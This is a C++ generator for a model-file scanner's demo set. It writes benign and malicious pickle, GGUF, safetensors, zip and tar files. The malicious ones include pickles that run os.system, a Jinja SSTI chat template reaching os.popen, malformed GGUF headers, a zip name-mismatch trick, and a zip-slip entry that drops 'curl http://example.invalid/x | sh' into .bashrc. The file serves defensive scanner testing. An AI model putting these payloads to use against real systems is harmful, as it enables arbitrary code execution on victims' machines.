// Writes the demo sample set that `make demo` scans: for each format, benign files and files
// carrying a known attack. Everything is built from bytes here; nothing is downloaded.
//   usage: airlock-demo-gen OUT_DIR
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <string>

#include "core/file.h"
#include "formats/gguf_writer.h"

// Containers (zip, npz, tar.gz) for the demo set.
#include <archive.h>
#include <archive_entry.h>
#include <zlib.h>

#include <vector>

namespace {

namespace fs = std::filesystem;

// A string literal with its full length: pickles contain NUL bytes.
template <std::size_t N>
std::string Lit(const char (&a)[N]) {
  return std::string(a, N - 1);
}

bool Write(const fs::path& path, const std::string& bytes) {
  fs::create_directories(path.parent_path());
  auto s = airlock::core::WriteFileAtomic(path.string(), bytes);
  if (!s.ok()) std::fprintf(stderr, "demo-gen: %s\n", s.message().c_str());
  return s.ok();
}

// Protocol-2 pickle of collections.OrderedDict() with one int item: what a state_dict looks like.
std::string BenignPickle() {
  std::string p = "\x80\x02";
  p += Lit("ccollections\nOrderedDict\nq\x00)Rq\x01");
  p += Lit("X\x06\x00\x00\x00weightq\x02K\x07s.");
  return p;
}

// Protocol-2 pickle that calls os.system("echo pwned") when loaded.
std::string MaliciousPickle() {
  std::string p = "\x80\x02";
  p += Lit("cposix\nsystem\nq\x00X\x0a\x00\x00\x00" "echo pwnedq\x01\x85q\x02Rq\x03.");
  return p;
}

// --- pickle samples (pickle analyzer) ---

std::string Sbu(const std::string& s) {
  return Lit("\x8c") + static_cast<char>(s.size()) + s;
}
std::string Le(std::uint64_t v, int n) {
  std::string s;
  for (int i = 0; i < n; ++i) s += static_cast<char>((v >> (8 * i)) & 0xff);
  return s;
}

// Protocol 4 state dict as torch.save writes into data.pkl: OrderedDict of one tensor whose
// storage is a persistent id, rebuilt by torch._utils._rebuild_tensor_v2.
std::string BenignStateDictV4() {
  std::string body;
  body += Sbu("collections") + "\x94" + Sbu("OrderedDict") + "\x94\x93\x94)R\x94";
  body += Sbu("layer.weight") + "\x94";
  body += Sbu("torch._utils") + "\x94" + Sbu("_rebuild_tensor_v2") + "\x94\x93\x94";
  body += "((" + Sbu("storage") + "\x94" + Sbu("torch") + "\x94" + Sbu("FloatStorage") +
          "\x94\x93\x94" + Sbu("0") + "\x94" + Sbu("cpu") + "\x94K\x04t\x94Q";
  body += Lit("K\x00K\x02K\x02\x86K\x02K\x01\x86\x89");
  body += "h\x02)R\x94t\x94R\x94s.";
  return Lit("\x80\x04\x95") + Le(body.size(), 8) + body;
}

// STACK_GLOBAL whose operands are fetched from the memo after decoy strings ('torch',
// 'FloatStorage') were stored: os.system("id") hidden behind memo indices.
std::string MemoObfuscatedPickle() {
  std::string p("\x80\x04", 2);
  p += Sbu("torch") + Lit("q\x00") + Sbu("FloatStorage") + "q\x01" + "00";
  p += Sbu("os") + "q\x07" + "0" + Sbu("system") + "q\x08" + "0";
  p += "h\x07h\x08\x93" + Sbu("id") + "\x85R.";
  return p;
}

// A benign-looking pickle that hands a malicious pickle to torch.storage._load_from_bytes (an
// allow-listed loader): the nested bytes are scanned too.
std::string NestedPickle() {
  std::string inner = MaliciousPickle();
  std::string p("\x80\x02", 2);
  p += Lit("ctorch.storage\n_load_from_bytes\nq\x00");
  p += "B" + Le(inner.size(), 4) + inner + "\x85R.";
  return p;
}

// --- GGUF and safetensors samples ------------------------------------------------------------

namespace gguf = airlock::formats::gguf;

// A tiny llama-shaped GGUF with a vocabulary and a ChatML template; `extra` adds metadata.
gguf::Writer TinyGguf() {
  gguf::Writer w;
  w.AddString("general.architecture", "llama");
  w.AddString("general.name", "airlock-demo-tiny");
  w.AddString("general.license", "apache-2.0");
  w.AddUint32("llama.context_length", 256);
  w.AddUint32("llama.embedding_length", 32);
  w.AddUint32("llama.block_count", 1);
  w.AddUint32("llama.attention.head_count", 4);
  w.AddString("tokenizer.ggml.model", "llama");
  w.AddStringArray("tokenizer.ggml.tokens",
                   {"<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "a"});
  w.AddFloat32Array("tokenizer.ggml.scores", {0, 0, 0, 0, 0, -1});
  w.AddInt32Array("tokenizer.ggml.token_type", {2, 3, 3, 3, 3, 1});
  w.AddUint32("tokenizer.ggml.bos_token_id", 1);
  w.AddUint32("tokenizer.ggml.eos_token_id", 2);
  return w;
}

void AddTinyTensors(gguf::Writer& w) {
  static const std::vector<std::byte> embd(4 * 32 * 6, std::byte{0});
  w.AddTensor("token_embd.weight", gguf::GgmlType::kF32, {32, 6}, embd);
}

std::string BenignGguf() {
  gguf::Writer w = TinyGguf();
  w.AddString("tokenizer.chat_template",
              "{% for message in messages %}<|im_start|>{{ message['role'] }}\n"
              "{{ message['content'] }}<|im_end|>\n{% endfor %}"
              "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}");
  AddTinyTensors(w);
  return w.Build();
}

// CVE-2024-34359 ("Llama Drama") class: a chat template that reaches os.popen when rendered by
// an unsandboxed Jinja.
std::string SstiTemplateGguf() {
  gguf::Writer w = TinyGguf();
  w.AddString("tokenizer.chat_template",
              "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
              "{% for message in messages %}{{ message['content'] }}{% endfor %}");
  AddTinyTensors(w);
  return w.Build();
}

// GHSA-g4cc-763q-h9h6 class: a special-token id used as an index past the vocabulary.
std::string SpecialTokenOobGguf() {
  gguf::Writer w = TinyGguf();
  w.AddUint32("tokenizer.ggml.padding_token_id", 1u << 30);
  AddTinyTensors(w);
  return w.Build();
}

// CVE-2024-23605 class: a metadata count no file of this size can hold (an undersized
// allocation in readers that multiply it unchecked).
std::string HugeCountGguf() {
  gguf::Writer w = TinyGguf();
  AddTinyTensors(w);
  std::string b = w.Build();
  for (int i = 0; i < 8; ++i) b[16 + i] = static_cast<char>(0xff);
  return b;
}

std::string Safetensors(const std::string& header_json, std::size_t data_len) {
  std::string h = header_json;
  while (h.size() % 8 != 0) h += ' ';
  std::string out(8, '\0');
  std::uint64_t n = h.size();
  for (int i = 0; i < 8; ++i) out[i] = static_cast<char>((n >> (8 * i)) & 0xff);
  return out + h + std::string(data_len, '\0');
}

std::string BenignSafetensors() {
  return Safetensors(
      R"({"__metadata__":{"format":"pt"},"lm_head.weight":{"dtype":"F16","shape":[4,8],"data_offsets":[0,64]},)"
      R"("model.norm.weight":{"dtype":"F32","shape":[8],"data_offsets":[64,96]}})",
      96);
}

std::string MetadataCodeSafetensors() {
  return Safetensors(
      R"json({"__metadata__":{"format":"pt","model_info":"import os; os.system('echo pwned')"},)json"
      R"json("w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}})json",
      16);
}

// Two entries for one name: serde keeps the last, other parsers the first, so different tools see
// different weights.
std::string DuplicateKeySafetensors() {
  return Safetensors(
      R"({"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}})",
      32);
}

// --- Container samples (zip, PyTorch zip, npy/npz, tar.gz) ---

void PutLe(std::string& s, std::uint64_t v, int bytes) {
  for (int i = 0; i < bytes; ++i) s += static_cast<char>((v >> (8 * i)) & 0xff);
}

struct DemoZipMember {
  std::string name;
  std::string data;
  std::string local_name;  // non-empty: a different name in the local header (a zip trick)
};

// A stored (uncompressed) zip, laid out like PyTorch writes it.
std::string DemoZip(const std::vector<DemoZipMember>& members) {
  std::string out, central;
  for (const auto& m : members) {
    auto crc = static_cast<std::uint32_t>(
        crc32(0, reinterpret_cast<const Bytef*>(m.data.data()), static_cast<uInt>(m.data.size())));
    std::uint32_t offset = static_cast<std::uint32_t>(out.size());
    const std::string& lname = m.local_name.empty() ? m.name : m.local_name;
    out += "PK\x03\x04";
    PutLe(out, 20, 2);
    PutLe(out, 0, 2);
    PutLe(out, 0, 2);
    PutLe(out, 0, 4);
    PutLe(out, crc, 4);
    PutLe(out, m.data.size(), 4);
    PutLe(out, m.data.size(), 4);
    PutLe(out, lname.size(), 2);
    PutLe(out, 0, 2);
    out += lname + m.data;
    central += "PK\x01\x02";
    PutLe(central, 20, 2);
    PutLe(central, 20, 2);
    PutLe(central, 0, 2);
    PutLe(central, 0, 2);
    PutLe(central, 0, 4);
    PutLe(central, crc, 4);
    PutLe(central, m.data.size(), 4);
    PutLe(central, m.data.size(), 4);
    PutLe(central, m.name.size(), 2);
    PutLe(central, 0, 8);  // extra, comment, disk and internal-attribute fields
    PutLe(central, 0, 4);
    PutLe(central, offset, 4);
    central += m.name;
  }
  std::uint32_t cd_offset = static_cast<std::uint32_t>(out.size());
  out += central;
  out += "PK\x05\x06";
  PutLe(out, 0, 4);
  PutLe(out, members.size(), 2);
  PutLe(out, members.size(), 2);
  PutLe(out, central.size(), 4);
  PutLe(out, cd_offset, 4);
  PutLe(out, 0, 2);
  return out;
}

// torch.save layout: archive/data.pkl, a raw float storage, version and byteorder records.
std::string DemoPyTorchZip(const std::string& data_pkl, const std::string& local_name = "") {
  std::string storage;
  for (int i = 0; i < 16; ++i) PutLe(storage, 0x3f800000u + i, 4);  // float32 values
  return DemoZip({{"archive/data.pkl", data_pkl, local_name},
                  {"archive/byteorder", "little", ""},
                  {"archive/data/0", storage, ""},
                  {"archive/version", "3\n", ""}});
}

std::string DemoNpy(const std::string& dict, const std::string& payload) {
  std::string header = dict;
  while ((10 + header.size() + 1) % 64 != 0) header += ' ';
  header += '\n';
  std::string out("\x93NUMPY\x01\x00", 8);
  PutLe(out, header.size(), 2);
  return out + header + payload;
}

// A gzip-compressed tar holding the given files.
std::string DemoTarGz(const std::vector<std::pair<std::string, std::string>>& files) {
  std::string buf(1u << 20, '\0');
  std::size_t used = 0;
  archive* a = archive_write_new();
  archive_write_set_format_pax_restricted(a);
  archive_write_add_filter_gzip(a);
  archive_write_open_memory(a, buf.data(), buf.size(), &used);
  for (const auto& [name, data] : files) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, name.c_str());
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
    archive_write_header(a, e);
    archive_write_data(a, data.data(), data.size());
    archive_entry_free(e);
  }
  archive_write_close(a);
  archive_write_free(a);
  buf.resize(used);
  return buf;
}

// A tiny runnable llama model (2 layers, 64-wide, random F32 weights) whose 64-word vocabulary
// makes its random output readable words: it shows the engine running end to end, not a model
// that knows anything.
std::string TinyRunnableModel() {
  static const char* kWords[] = {
      "the", "a", "cat", "dog", "sat", "ran", "on", "under", "mat", "tree", "big", "small",
      "red", "blue", "and", "then", "it", "was", "happy", "sad", "day", "night", "sun", "moon",
      "bird", "sang", "song", "in", "park", "house", "girl", "boy", "played", "with", "ball",
      "friend", "saw", "went", "home", "to", "ate", "cake", "jumped", "over", "river", "fish",
      "swam", "far", "away", "one", "two", "three", "green", "hill", "walked", "slowly", "fast",
      "laughed", "smiled", "said", "hello", "goodbye", "story", "end"};
  const int n_embd = 64, n_ff = 128, n_layer = 2, n_head = 4, n_head_kv = 2;
  const int head_dim = n_embd / n_head;
  std::vector<std::string> tokens = {"<unk>", "<s>", "</s>"};
  for (const char* w : kWords) tokens.push_back(std::string("\xe2\x96\x81") + w);  // U+2581 + word
  const int n_vocab = static_cast<int>(tokens.size());
  std::vector<float> scores(n_vocab, 0.0f);
  std::vector<std::int32_t> types(n_vocab, 1);
  types[0] = 2;
  types[1] = types[2] = 3;
  gguf::Writer w;
  w.AddString("general.architecture", "llama");
  w.AddString("general.name", "airlock-demo-tiny-random");
  w.AddString("general.license", "apache-2.0");
  w.AddUint32("llama.context_length", 256);
  w.AddUint32("llama.embedding_length", n_embd);
  w.AddUint32("llama.block_count", n_layer);
  w.AddUint32("llama.feed_forward_length", n_ff);
  w.AddUint32("llama.attention.head_count", n_head);
  w.AddUint32("llama.attention.head_count_kv", n_head_kv);
  w.AddUint32("llama.rope.dimension_count", head_dim);
  w.AddFloat32("llama.attention.layer_norm_rms_epsilon", 1e-5f);
  w.AddString("tokenizer.ggml.model", "llama");
  w.AddStringArray("tokenizer.ggml.tokens", tokens);
  w.AddFloat32Array("tokenizer.ggml.scores", scores);
  w.AddInt32Array("tokenizer.ggml.token_type", types);
  w.AddUint32("tokenizer.ggml.unknown_token_id", 0);
  w.AddUint32("tokenizer.ggml.bos_token_id", 1);
  w.AddUint32("tokenizer.ggml.eos_token_id", 2);
  std::uint64_t state = 0x9e3779b97f4a7c15ull;
  auto random_f32 = [&state](std::size_t n, float scale) {
    std::vector<std::byte> bytes(n * 4);
    for (std::size_t i = 0; i < n; ++i) {
      state = state * 6364136223846793005ull + 1442695040888963407ull;
      float v = (static_cast<float>(state >> 40) / 16777216.0f - 0.5f) * 2 * scale;
      std::memcpy(&bytes[i * 4], &v, 4);
    }
    return bytes;
  };
  auto ones = [](std::size_t n) {
    std::vector<std::byte> bytes(n * 4);
    float one = 1.0f;
    for (std::size_t i = 0; i < n; ++i) std::memcpy(&bytes[i * 4], &one, 4);
    return bytes;
  };
  using U = std::uint64_t;
  auto add = [&](const std::string& name, std::vector<U> ne, std::vector<std::byte> data) {
    w.AddTensor(name, gguf::GgmlType::kF32, std::move(ne), data);
  };
  add("token_embd.weight", {U(n_embd), U(n_vocab)}, random_f32(n_embd * n_vocab, 1.0f));
  add("output_norm.weight", {U(n_embd)}, ones(n_embd));
  add("output.weight", {U(n_embd), U(n_vocab)}, random_f32(n_embd * n_vocab, 0.5f));
  const int kv = n_head_kv * head_dim;
  for (int l = 0; l < n_layer; ++l) {
    std::string b = "blk." + std::to_string(l) + ".";
    add(b + "attn_norm.weight", {U(n_embd)}, ones(n_embd));
    add(b + "attn_q.weight", {U(n_embd), U(n_embd)}, random_f32(n_embd * n_embd, 0.2f));
    add(b + "attn_k.weight", {U(n_embd), U(kv)}, random_f32(n_embd * kv, 0.2f));
    add(b + "attn_v.weight", {U(n_embd), U(kv)}, random_f32(n_embd * kv, 0.2f));
    add(b + "attn_output.weight", {U(n_embd), U(n_embd)}, random_f32(n_embd * n_embd, 0.2f));
    add(b + "ffn_norm.weight", {U(n_embd)}, ones(n_embd));
    add(b + "ffn_gate.weight", {U(n_embd), U(n_ff)}, random_f32(n_embd * n_ff, 0.2f));
    add(b + "ffn_up.weight", {U(n_embd), U(n_ff)}, random_f32(n_embd * n_ff, 0.2f));
    add(b + "ffn_down.weight", {U(n_ff), U(n_embd)}, random_f32(n_ff * n_embd, 0.2f));
  }
  return w.Build();
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: airlock-demo-gen OUT_DIR\n");
    return 2;
  }
  fs::path out = argv[1];
  bool ok = true;
  ok &= Write(out / "benign" / "state_dict.pkl", BenignPickle());
  ok &= Write(out / "malicious" / "os_system.pkl", MaliciousPickle());
  ok &= Write(out / "benign" / "state_dict_v4.pkl", BenignStateDictV4());
  ok &= Write(out / "malicious" / "memo_stack_global.pkl", MemoObfuscatedPickle());
  ok &= Write(out / "malicious" / "nested_load_from_bytes.pkl", NestedPickle());
  ok &= Write(out / "benign" / "tiny-chatml.gguf", BenignGguf());
  ok &= Write(out / "malicious" / "template-ssti.gguf", SstiTemplateGguf());
  ok &= Write(out / "malicious" / "special-token-oob.gguf", SpecialTokenOobGguf());
  ok &= Write(out / "malicious" / "huge-kv-count.gguf", HugeCountGguf());
  ok &= Write(out / "benign" / "model.safetensors", BenignSafetensors());
  ok &= Write(out / "malicious" / "metadata-code.safetensors", MetadataCodeSafetensors());
  ok &= Write(out / "malicious" / "duplicate-key.safetensors", DuplicateKeySafetensors());
  // Containers.
  std::string floats;
  for (int i = 0; i < 6; ++i) PutLe(floats, 0x40000000u + i, 4);
  std::string f4 = DemoNpy("{'descr': '<f4', 'fortran_order': False, 'shape': (2, 3), }", floats);
  ok &= Write(out / "benign" / "pytorch_model.pt", DemoPyTorchZip(BenignPickle()));
  ok &= Write(out / "benign" / "arrays.npz",
              DemoZip({{"weights.npy", f4, ""}, {"bias.npy", f4, ""}}));
  ok &=
      Write(out / "benign" / "checkpoint.tar.gz",
            DemoTarGz({{"model/state_dict.pkl", BenignPickle()}, {"model/README.txt", "demo\n"}}));
  ok &= Write(out / "malicious" / "pytorch_os_system.pt", DemoPyTorchZip(MaliciousPickle()));
  // CVE-2025-1944 technique: local header and central directory disagree on the name.
  ok &= Write(out / "malicious" / "pytorch_name_mismatch.pt",
              DemoPyTorchZip(BenignPickle(), "archive/datap.kl"));
  ok &=
      Write(out / "malicious" / "object_array.npy",
            DemoNpy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", MaliciousPickle()));
  ok &= Write(out / "malicious" / "zip_slip.zip",
              DemoZip({{"../../.bashrc", "curl http://example.invalid/x | sh\n", ""}}));
  ok &= Write(out / "malicious" / "model.tar.gz",
              DemoTarGz({{"model/os_system.pkl", MaliciousPickle()}}));
  ok &= Write(out / "model" / "tiny-random-llama.gguf", TinyRunnableModel());
  return ok ? 0 : 1;
}
